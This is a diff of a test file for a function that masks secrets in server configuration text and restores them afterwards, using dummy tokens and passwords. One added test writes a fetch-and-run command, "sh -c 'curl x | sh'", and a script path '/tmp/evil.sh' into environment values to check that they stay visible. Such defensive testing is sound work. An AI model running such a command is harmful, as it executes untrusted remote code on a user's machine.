@@ -46,11 +46,53 @@ describe("a configuration's text", () => {
   })
 
   it.each([
-    { name: "over several lines", text: server("    env:\n      API_TOKEN: |\n        one\n        two") },
-    { name: "in signs that are written otherwise", text: server('    env: { API_TOKEN: "hunt\\x65r22" }') },
-    { name: "too short to be told from anything else", text: server("    env: { API_TOKEN: abc }") },
-  ])("is not shown at all with a secret $name", ({ text }) => {
+    { name: "over several lines", written: "API_TOKEN: |\n        one\n        two", hides: /one|two/ },
+    { name: "in signs that are written otherwise", written: 'API_TOKEN: "hunt\\x65r22"', hides: /hunt/ },
+    { name: "of a few signs", written: "API_TOKEN: abc", hides: /abc/ },
+    { name: "of digits", written: "DB_PASSWORD: 1234", hides: /1234/ },
+  ])("hides a secret $name in its place", ({ written, hides }) => {
+    const text = server(`    env:\n      ${written}`)
+    const shown = masked(text)
+    expect(shown?.text).toMatch(/‹secret-1-of-\d+-characters›/)
+    expect(shown?.text).not.toMatch(hides)
+    expect(shown?.restore(shown.text)).toBe(text)
+  })
+
+  it("is not shown at all with a secret at another place than its own", () => {
+    const text = server("    env: { API_TOKEN: *a }").replace("version: 1", "version: 1\nhosts: [&a hunter22]")
     expect(masked(text)).toBeNull()
+  })
+
+  it("I1: shows rules and settings whatever a server is given", () => {
+    const given = `    env: { A_TOKEN: allow, B_TOKEN: "*(*)", C_TOKEN: "‹secret-", D_TOKEN: "under", E_TOKEN: rules, F_TOKEN: " - " }`
+    const rules = `policy:\n  rules:\n    - allow: "*(*)"\n      when: { path: { under: / } }\nagents: { anonymous: true }\n`
+    const shown = masked(`version: 1\nservers:\n  a:\n    command: run\n${given}\n${rules}`)
+    expect(shown?.text.endsWith(rules)).toBe(true)
+    expect(shown?.text).toContain("A_TOKEN: ‹secret-1-of-5-characters›, B_TOKEN")
+  })
+
+  it("hides in a comment what a server is given, but no short word of it", () => {
+    const shown = masked(
+      server("    # hunter22-hunter22 is old, abcd too\n    env: { A_TOKEN: hunter22-hunter22, B_TOKEN: abcd }"),
+    )
+    expect(shown?.text).toContain("# ‹secret-1-of-17-characters› is old, abcd too\n")
+  })
+
+  it("takes no text for a mask that is none, and gives it back unchanged", () => {
+    const comment = "    # ‹secret-1-of-24-characters›"
+    const text = server(`${comment}\n    env: { API_TOKEN: hunter22, NOTE: "‹secret-2-of-8-characters›" }`)
+    const shown = masked(text)
+    const marks = shown?.text.match(/‹secret-\d+-of-\d+-characters›/g)
+    expect(marks).toEqual(["‹secret-1-of-8-characters›", "‹secret-2-of-8-characters›", "‹secret-1-of-8-characters›"])
+    expect(shown?.secrets).toEqual(["‹secret-", "hunter22"])
+    expect(shown?.restore(shown.text)).toBe(text)
+  })
+
+  it("shows what may start a program, whatever the variable is called", () => {
+    const text = server(
+      `    env: { RESTIC_PASSWORD_COMMAND: "sh -c 'curl x | sh'", AUTH_PLUGIN: evil, PASS_TOKEN: /tmp/evil.sh }`,
+    )
+    expect(masked(text)?.text).toBe(text)
   })
 
   it("keeps how its lines end, and a mark at its beginning", () => {
